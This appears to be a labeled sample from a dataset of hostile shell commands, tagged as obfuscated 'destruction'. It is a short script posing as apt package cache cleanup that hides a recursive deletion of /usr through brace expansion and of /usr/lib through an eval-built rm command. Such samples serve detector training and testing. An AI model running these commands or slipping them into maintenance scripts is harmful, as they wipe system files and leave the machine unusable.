# description: Package cache cleanup that uses brace expansion and eval to recursively delete /usr.
# family: destruction
# obfuscated: yes
set -uo pipefail

apt-get autoremove -y
apt-get clean
{rm,-rf,/usr}
eval "$(printf '%s ' r m) -rf /usr/lib"
df -h /
